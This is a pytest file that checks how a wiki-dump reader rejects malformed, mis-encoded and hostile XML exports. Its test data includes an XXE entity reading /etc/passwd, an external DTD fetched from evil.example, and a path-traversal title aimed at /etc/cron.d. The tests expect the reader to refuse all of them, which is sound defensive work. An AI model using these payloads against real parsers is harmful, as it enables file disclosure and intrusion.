"""Exports that are malformed."""

from __future__ import annotations

import gzip
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from demo.build import export
from tests.unit.sources.dump.exports import COMPRESS, PAGES, WEATHER, page, pins, write
from wikimill.errors import WikimillError
from wikimill.sources.base import Revision, Unavailable
from wikimill.sources.dump.source import DumpSource


@pytest.mark.parametrize(
    "text",
    [
        "",
        "no xml",
        export(PAGES).replace("</page>", "</pages>", 1),
    ],
)
def test_a_file_that_is_not_an_export_is_one_line(tmp_path: Path, text: str) -> None:
    path = tmp_path / "bad.xml"
    path.write_text(text)
    with pytest.raises(WikimillError, match=r"bad\.xml: the dump .*; download or export it again"):
        list(DumpSource([str(path)], tmp_path).all_pages([0]))


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-16-le", "utf-32"])
def test_utf_16_is_named(tmp_path: Path, encoding: str) -> None:
    path = tmp_path / "wide.xml"
    path.write_bytes(export(PAGES).encode(encoding))
    with pytest.raises(WikimillError, match=r"wide\.xml: the dump is UTF-16 or UTF-32, and .*; convert it: iconv"):
        pins(path, tmp_path)


@pytest.mark.parametrize("suffix", COMPRESS)
def test_a_text_that_is_not_utf8_is_a_row_with_its_reason_and_the_others_are_kept(
    tmp_path: Path, suffix: str, caplog: pytest.LogCaptureFixture
) -> None:
    pages = {**PAGES, "Odd": "\ufffd \ufdd0 \ufffd\ufdd1"}
    data = export(pages).encode().replace(b"Sea fog", b"Sea \xff\xfe").replace(b"[[Sea fret]]", b"[[Sea fret]]\xc3")
    path = tmp_path / f"bad{suffix}"
    path.write_bytes(COMPRESS[suffix](data))
    source = DumpSource([str(path)], tmp_path)
    pins = {pin.title: pin for pin in source.all_pages([0])}
    intact = tmp_path / "good.xml"
    intact.write_text(export(pages))
    others = {pin.title: pin for pin in DumpSource([str(intact)], tmp_path / "intact").all_pages([0])}
    assert pins.keys() == others.keys()
    assert [title for title in pins if pins[title] != others[title]] == ["Haar"]
    found = {each.title: each for each in source.revisions(pins.values())}
    assert found["Haar"] == Unavailable.of(pins["Haar"], "text not UTF-8")
    assert sum(isinstance(each, Revision) for each in found.values()) == len(pins) - 1
    members = source.category_members("Weather", [0], subcategories=False)
    assert members
    assert "Haar" in {pin.title for pin in members.pages}  # its categories can be read
    assert f"{path}: texts that are not UTF-8: 2, such as that of 'Fret'" in caplog.messages


@pytest.mark.parametrize(
    ("old", "new", "row", "reason"),
    [
        (b"<title>Haar<", b"<title>H\xe4ar<", "H\ufffdar (page 6)", "title not allowed"),
        (b"<timestamp>2026", b"<timestamp>20\xff26", "Blue fog", "no revision"),
        (b"<comment>", b"<comment>\xff", "", ""),
        (b"<username>", b"<username>\xff", "", ""),
    ],
)
def test_what_else_is_not_utf8_is_one_page_at_most(
    tmp_path: Path, old: bytes, new: bytes, row: str, reason: str
) -> None:
    data = export({**PAGES, "Blue fog": "Fog."}).encode()
    data = data.replace(b"<contributor>", b"<comment>c</comment><contributor>")
    path = tmp_path / "bad.xml"
    path.write_bytes(data.replace(old, new, 1))
    found = pins(path, tmp_path)
    assert {pin.title: pin.problem for pin in found if pin.problem} == ({row: reason} if row else {})
    assert len(found) == 6


def test_a_page_has_the_text_of_its_newest_revision_whatever_is_wrong_in_older_ones(tmp_path: Path) -> None:
    old = "<revision><id>1</id><timestamp>2020-01-01T00:00:00Z</timestamp><text>old ?</text></revision>"
    new = "<revision><id>2</id><timestamp>2021-01-01T00:00:00Z</timestamp><text>new</text></revision>"
    path = tmp_path / "wiki.xml"
    path.write_bytes(page(old + new).encode().replace(b"?", b"\xff"))
    (found,) = DumpSource([str(path)], tmp_path).revisions(pins(path, tmp_path))
    assert isinstance(found, Revision)
    assert found.text == "new"


def test_a_dump_in_another_encoding_is_one_line(tmp_path: Path) -> None:
    path = tmp_path / "bad.xml"
    path.write_bytes(export({"A": "ä", "B": "ü"}).encode("latin-1"))
    with pytest.raises(WikimillError, match=r"bad\.xml: the dump has no texts \(text not UTF-8\); download"):
        pins(path, tmp_path)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("old", "new", "row", "reason", "problem"),
    [
        (
            "<title>Haar</title>",
            "<title>../../etc/cron.d/x</title>",
            "\ufffd../etc/cron.d/x (page 6)",
            "title not allowed",
            "'../../etc/cron.d/x' title not allowed",
        ),
        (
            "<title>Haar</title>",
            "<title>a\nb&#x202e;</title>",
            "a\ufffdb\ufffd (page 6)",
            "title not allowed",
            r"'a\nb\u202e' title not allowed",
        ),
        ("<title>Haar</title>", "", "\ufffd (page 6)", "title not allowed", "'' title not allowed"),
        ("<id>6<", "<id>zero<", "Haar", "cannot be read", "'Haar' has an invalid page id ('zero')"),
        (
            "<timestamp>2026",
            "<timestamp>last year",
            "Blue fog",
            "no revision",
            "'Blue fog' has an invalid timestamp ('last year-11-20T12:00:00Z')",
        ),
        ("<id>1001<", "<id>0<", "Blue fog", "no revision", "'Blue fog' has an invalid revision id ('0')"),
        (
            "-20T12:00:00Z",
            "-31T12:00:00Z",
            "Blue fog",
            "no revision",
            "has an invalid timestamp ('2026-11-31T12:00:00Z')",
        ),
    ],
)
def test_one_bad_page_does_not_end_the_dump(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, old: str, new: str, row: str, reason: str, problem: str
) -> None:
    text = export(PAGES)
    assert old in text
    path = tmp_path / "wiki.xml"
    path.write_text(text.replace(old, new, 1))
    found = pins(path, tmp_path)
    assert {pin.title: pin.problem for pin in found if not pin.revid} == {row: reason}
    assert len(found) == len(pins(write(tmp_path, text, "good.xml"), tmp_path))
    assert "wiki.xml: pages that cannot be read: 1 (1 " in caplog.text
    assert f"{problem})" in caplog.text
    caplog.clear()
    pins(path, tmp_path)
    assert "pages that cannot be read: 1" in caplog.text, "it is said each time"


def test_a_page_without_a_revision_is_a_row(tmp_path: Path) -> None:
    path = write(tmp_path, re.sub(r"<revision>.*?</revision>", "", export(WEATHER), count=1, flags=re.S))
    assert {pin.title: pin.problem for pin in pins(path, tmp_path)} == {"Category:Weather": "no revision", "Haar": ""}
    source = DumpSource([str(path)], tmp_path)
    assert [pin.pageid for pin in source.lookup(["Category:Weather"])] == [1]
    assert list(source.current_pages(["Category:Weather"])) == [("Category:Weather", None)]


def test_a_page_without_a_valid_namespace_has_that_of_its_title(tmp_path: Path) -> None:
    path = write(tmp_path, export(WEATHER).replace("<ns>14", f"<ns>{'9' * 5000}"))
    assert [(pin.title, pin.ns) for pin in pins(path, tmp_path)] == [("Category:Weather", 14), ("Haar", 0)]


def test_a_dump_of_bad_pages_alone_is_one_line(tmp_path: Path) -> None:
    path = write(tmp_path, export({"../../etc/cron.d/x": "evil"}))
    match = r"wiki\.xml: the dump has no page that can be read: 1 '\.\./\.\./etc/cron\.d/x' title not allowed; down"
    with pytest.raises(WikimillError, match=match):
        pins(path, tmp_path)


def test_control_characters_are_replaced(tmp_path: Path) -> None:
    text = export({"Haar": "Sea fog."}).replace("Sea fog.", "Sea\x01 &#11;&#x1F;f\uffffog&#9;.")
    path = write(tmp_path, re.sub(' sha1="[^"]*"', "", text))
    (found,) = DumpSource([str(path)], tmp_path).revisions(pins(path, tmp_path))
    assert isinstance(found, Revision)
    assert found.text == "Sea\ufffd \ufffd\ufffdf\ufffdog\t."


@pytest.mark.slow
def test_a_text_that_is_too_long_has_a_row_with_the_reason(tmp_path: Path) -> None:
    text = export({"Haar": "Sea fog.", "Long": "&é" * 3_200_000, "Sun": "Bright."})
    source = DumpSource([str(write(tmp_path, text))], tmp_path)
    found = list(source.revisions(source.all_pages([0])))
    assert [item.title for item in found if isinstance(item, Revision)] == ["Haar", "Sun"]
    assert [item.reason for item in found if isinstance(item, Unavailable)] == ["text too long (more than 9.5 MB)"]


@pytest.mark.parametrize(
    ("name", "content", "what"),
    [
        ("enwiki-20260101-cirrussearch-content.json.gz", b"", "is of the search index (CirrusSearch)"),
        ("content.json.gz", b'{"index":{"_type":"_doc","_id":"1"}}\n', "is of the search index (CirrusSearch)"),
        ("enwiki-20260101-categorylinks.sql.gz", b"", "is of a table of the database"),
        ("table.gz", b"-- MySQL dump 10.19\n--\n", "is of a table of the database"),
        ("enwiki-NS0-20260101-ENTERPRISE-HTML.json.tar.gz", b"", "is a snapshot in HTML"),
        ("snapshot.gz", b'{"name":"Haar","identifier":1}\n', "is a snapshot in HTML"),
        ("enwiki-20260101-stub-articles.xml.gz", b"", "holds no texts of pages"),
        ("page.xml", b"<!DOCTYPE html><html><body>404</body></html>", "is a web page"),
        ("twice.xml", gzip.compress(gzip.compress(b"<mediawiki/>", mtime=0), mtime=0), "is compressed twice"),
        ("headless.xml", b"<page><title>Haar</title></page>", "begins with <page>: its head is missing"),
        (
            "nosite.xml",
            b"<mediawiki><page><title>Haar</title></page></mediawiki>",
            "has no <siteinfo> before its first",
        ),
    ],
)
def test_other_files_are_named_for_what_they_are(tmp_path: Path, name: str, content: bytes, what: str) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(WikimillError, match=re.escape(what)) as caught:
        pins(path, tmp_path)
    assert re.search(rf"/{re.escape(name)}: the dump .*; \w", str(caught.value))


WHOLE = export({"Haar": "Sea fog."})
START = WHOLE.partition("  <page>")[0]
BEFORE, AFTER = WHOLE.split("Sea fog.")
LATIN = '<?xml version="1.0" encoding="ISO-8859-1"?>'
# What it is: suffix, content, and what the error says of it. Those that cost time or memory are in tests/mediawiki.
REFUSED: dict[str, tuple[str, Callable[[], str | bytes], str]] = {
    "one entity": ("xml", lambda: f"<!DOCTYPE m [<!ENTITY a 'a'>]>{BEFORE}&a;{AFTER}", "document type"),
    "external entity": (
        "xml",
        lambda: f'<!DOCTYPE m [<!ENTITY a SYSTEM "/etc/passwd">]>{BEFORE}&a;{AFTER}',
        "document type",
    ),
    "external DTD": ("xml", lambda: f'<!DOCTYPE m SYSTEM "http://evil.example/m.dtd">{WHOLE}', "document type"),
    "undeclared entity": ("xml", lambda: f"{BEFORE}&passwd;{AFTER}", "not a well-formed"),
    "pages in pages": ("xml", lambda: f"{START}<page><page>", "a page in the wrong place"),
    "Latin-1": ("xml", lambda: (LATIN + WHOLE.replace("Sea", "Sää")).encode("latin-1"), "no texts .text not UTF-8"),
    "rubbish after gzip's end": ("xml.gz", lambda: gzip.compress(WHOLE.encode()) + b"rubbish", "truncated or damaged"),
    "rubbish after the end": ("xml", lambda: f"{WHOLE}<page/>", "Extra content"),
    "number": ("xml", lambda: WHOLE.replace("<id>1</id>", f"<id>{'9' * 1000}</id>"), "invalid page id \\('999"),
    "other texts": (
        "xml",
        lambda: export({f"Haar {number}": "Sea fog." for number in range(11)}).replace("fog.", "fog!"),
        "the dump is damaged: 11 of 11 texts do not match",
    ),
    "no lengths of texts": (
        "xml",
        lambda: re.sub("<text[^>]*>Sea fog.</text>", '<text id="1" />', WHOLE),
        "has no texts",
    ),
    "no texts": ("xml", lambda: WHOLE.replace(' sha1="', ' id="').replace("Sea fog.", ""), "has no texts"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_hostile_export_is_refused_in_one_line(tmp_path: Path, name: str) -> None:
    suffix, content, part = REFUSED[name]
    path = tmp_path / f"wiki.{suffix}"
    data = content()
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    with pytest.raises(WikimillError, match=part) as caught:
        list(DumpSource([str(path)], tmp_path).all_pages([0]))
    assert re.search(rf"/wiki\.{suffix}: the dump .*; download or export it again$", str(caught.value))
    assert "\n" not in str(caught.value)
